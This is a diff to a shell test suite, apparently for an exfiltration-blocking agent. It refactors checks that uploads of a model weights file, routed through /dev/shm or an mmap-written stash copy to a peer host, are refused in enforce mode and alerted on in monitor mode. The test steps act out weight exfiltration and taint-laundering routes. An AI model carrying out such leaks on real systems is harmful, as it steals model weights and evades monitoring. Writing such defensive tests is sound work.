@@ -49,6 +49,18 @@ upload_copy() {
 	[ "$status" -eq 0 ]
 }
 
+# refused_or_all MODE: after a leak of the 4 MiB weights' copy: enforce: it
+# was refused at connect and nothing arrived; monitor: all of it arrived.
+refused_or_all() {
+	if [ "$1" = enforce ]; then
+		[ "$status" -eq 3 ]
+		[ "$(sink_bytes)" -eq 0 ]
+	else
+		[ "$status" -eq 0 ]
+		[ "$(sink_bytes)" -eq $((4 << 20)) ]
+	fi
+}
+
 cp_to_shm() {
 	start_sink tcp
 	start_agent --mode "$1"
@@ -128,13 +140,7 @@ posix_shm() {
 	run in_cg python3 "$SHM_PY" posix --src "$W/model.safetensors" --name "$name"
 	[ "$status" -eq 0 ]
 	leak --via mmap --src "/dev/shm/$name" --host "$PEER4" --port "$PORT" --tag upload
-	if [ "$1" = enforce ]; then
-		[ "$status" -eq 3 ]
-		[ "$(sink_bytes)" -eq 0 ]
-	else
-		[ "$status" -eq 0 ]
-		[ "$(sink_bytes)" -eq $((4 << 20)) ]
-	fi
+	refused_or_all "$1"
 	run alert_wait kind=alert mode="$1" process.cmdline~upload \
 		taint.sources.0.path="$W/model.safetensors" taint.chain.0.via=read \
 		taint.chain.1.via=shm taint.chain.1.path="/dev/shm/$name"
@@ -159,13 +165,7 @@ disk_mapwrite() {
 	run in_cg python3 "$SHM_PY" mapwrite --src "$W/model.safetensors" --dst "$T/stash/w.bin"
 	[ "$status" -eq 0 ]
 	leak --src "$T/stash/w.bin" --host "$PEER4" --port "$PORT" --tag upload
-	if [ "$1" = enforce ]; then
-		[ "$status" -eq 3 ]
-		[ "$(sink_bytes)" -eq 0 ]
-	else
-		[ "$status" -eq 0 ]
-		[ "$(sink_bytes)" -eq $((4 << 20)) ]
-	fi
+	refused_or_all "$1"
 	run alert_wait kind=alert mode="$1" process.cmdline~upload \
 		taint.sources.0.path="$W/model.safetensors" taint.chain.0.via=read \
 		taint.chain.1.via=file taint.chain.1.path="$T/stash/w.bin"
